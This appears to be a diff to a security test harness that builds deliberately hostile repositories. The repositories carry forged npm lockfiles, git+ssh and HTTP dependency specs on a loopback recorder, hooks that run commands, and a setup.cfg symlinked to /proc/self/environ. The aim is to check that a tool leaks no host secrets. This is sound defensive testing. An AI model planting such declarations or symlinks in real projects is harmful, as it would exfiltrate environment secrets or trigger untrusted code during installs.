@@ -47,6 +47,7 @@ DECL_FORMATS = (
     "tox_etc",
     "nox",
     "npm",
+    "npm_remote",
     "link_setup_cfg",
     "link_requirements",
     "link_pyproject",
@@ -148,9 +149,8 @@ class Host:
             f'def helper():\n    """{self.dir_secret}"""\n    return "{self.dir_secret}"\n'
         )
         self.env_secret = f"HOSTENVSECRET-{t}"
-        # ../outside.txt from the repository: read through a declaration, it would leak.
+        # The content of ../outside.txt beside each repository (build_repo writes it).
         self.outside_secret = f"outsidesecret-{t}"
-        (self.base / "outside.txt").write_text(f"{self.outside_secret}==1.0\n")
         # An npm file: dependency: a host directory with a .env.
         self.npm_dir = host / "npmdir"
         self.npm_dir.mkdir()
@@ -247,12 +247,14 @@ class Host:
     def requirements(self) -> list[str]:
         """Direct, URL, VCS and path requirements (PEP 508)."""
         port = self.recorder.port
+        # The sdist first: pip stops at the first requirement it cannot prepare. git+file:
+        # names localhost because pip's own parser refuses an empty host there.
         return [
             f"evilpkg @ file://{self.sdist}",
             f"httppkg @ https://127.0.0.1:{port}/httppkg-1.0.tar.gz",
             f"plainhttp @ http://127.0.0.1:{port}/plainhttp-1.0.tar.gz",
             f"sshpkg @ git+ssh://git@127.0.0.1:{port}/evil.git",
-            f"gitpkg @ git+file://{self.git_pkg}",
+            f"gitpkg @ git+file://localhost{self.git_pkg}",
             f"dirpkg @ file://{self.pkg_dir}",
         ]
 
@@ -330,6 +332,8 @@ def build_repo(host: Host, dest: Path, parts: Parts = Parts()) -> Path:
         (dest / "app" / ESCAPE_NAME).write_text("def evil_title():\n    return 1\n")
         (dest / "app" / NEWLINE_NAME).write_text("def innocent_forged():\n    return 2\n")
     if parts.decls is not None:
+        # ../outside.txt from the repository: a host file a declaration must not read.
+        (dest.parent / "outside.txt").write_text(f"{host.outside_secret}==1.0\n")
         _declarations(host, dest, parts.decls)
     if parts.git:
         _git(dest, "init", "-q")
@@ -368,7 +372,7 @@ def build_repo(host: Host, dest: Path, parts: Parts = Parts()) -> Path:
 def _hostile_git(host: Host, repo: Path) -> None:
     """A .git/config, .gitattributes and hooks that run commands (each writes its marker)."""
     b = host.bin
-    hooks_path = host.base / f"hookspath-{repo.name}"
+    hooks_path = host.base / f"hookspath-{secrets.token_hex(4)}"
     hooks_path.mkdir()
     for hook in HOOKS:
         for where, prefix in ((repo / ".git" / "hooks", "hook"), (hooks_path, "hookspath")):
@@ -436,7 +440,7 @@ def _declarations(host: Host, repo: Path, fmt: str) -> None:
                     f"--extra-index-url http://127.0.0.1:{port}/simple/",
                     f"-e {host.pkg_dir}",
                     str(host.pkg_dir),
-                    f"git+file://{host.git_pkg}#egg=gitpkg",
+                    f"git+file://localhost{host.git_pkg}#egg=gitpkg",
                     *reqs,
                 ]
             )
@@ -473,8 +477,8 @@ def _declarations(host: Host, repo: Path, fmt: str) -> None:
         (repo / "noxfile.py").write_text(
             "import nox\n\n\n@nox.session\ndef tests(session):\n" + calls + "\n"
         )
-    elif fmt == "npm":
-        _npm(host, repo)
+    elif fmt in ("npm", "npm_remote"):
+        _npm(host, repo, remote=fmt == "npm_remote")
     elif fmt == "link_setup_cfg":
         os.symlink("/proc/self/environ", repo / "setup.cfg")
     elif fmt == "link_requirements":
@@ -485,38 +489,43 @@ def _declarations(host: Host, repo: Path, fmt: str) -> None:
         raise ValueError(f"unknown declaration format {fmt!r}")
 
 
-def _npm(host: Host, repo: Path) -> None:
+def _npm(host: Host, repo: Path, remote: bool) -> None:
+    """package.json and package-lock.json naming a host directory (``file:``, ``link:``) or,
+    with ``remote``, a ``git+ssh:`` repository and a tarball URL on the loopback listener. The
+    lockfile is the attacker's: its ``version`` fields hold the specs themselves."""
     port = host.recorder.port
-    ssh = f"git+ssh://git@127.0.0.1:{port}/evil.git"
+    ssh = f"git+ssh://git@127.0.0.1:{port}/evil.git#0123456789abcdef"
     http = f"http://127.0.0.1:{port}/httpdep/-/httpdep-1.0.0.tgz"
-    deps = {
-        "hostdir": f"file:{host.npm_dir}",
-        "linked": f"link:{host.npm_dir}",
-        "sshdep": ssh,
-        "httpdep": http,
-    }
+    fake = "sha512-" + "A" * 86 + "=="
+    deps: dict[str, str]
+    if remote:
+        deps = {"httpdep": http, "sshdep": ssh}
+        entries = {
+            "node_modules/httpdep": {"version": http, "resolved": http, "integrity": fake},
+            "node_modules/sshdep": {"version": ssh, "resolved": ssh},
+        }
+    else:
+        deps = {"hostdir": f"file:{host.npm_dir}", "linked": f"link:{host.npm_dir}"}
+        entries = {
+            "node_modules/hostdir": {
+                "version": f"file:{host.npm_dir}",
+                "resolved": f"file:{host.npm_dir}",
+            },
+            "node_modules/linked": {
+                "version": f"link:{host.npm_dir}",
+                "resolved": str(host.npm_dir),
+                "link": True,
+            },
+        }
     (repo / "package.json").write_text(
         json.dumps({"name": "victim", "version": "1.0.0", "dependencies": deps}, indent=2)
     )
-    fake = "sha512-" + "A" * 86 + "=="
     lock = {
         "name": "victim",
         "version": "1.0.0",
         "lockfileVersion": 3,
         "requires": True,
-        "packages": {
-            "": {"name": "victim", "version": "1.0.0", "dependencies": deps},
-            "node_modules/hostdir": {
-                "version": f"file:{host.npm_dir}",
-                "resolved": f"file:{host.npm_dir}",
-            },
-            "node_modules/linked": {"resolved": str(host.npm_dir), "link": True},
-            "node_modules/sshdep": {
-                "version": f"{ssh}#0123456789abcdef",
-                "resolved": f"{ssh}#0123456789abcdef",
-            },
-            "node_modules/httpdep": {"version": "1.0.0", "resolved": http, "integrity": fake},
-        },
+        "packages": {"": {"name": "victim", "version": "1.0.0", "dependencies": deps}, **entries},
     }
     (repo / "package-lock.json").write_text(json.dumps(lock, indent=2))
 
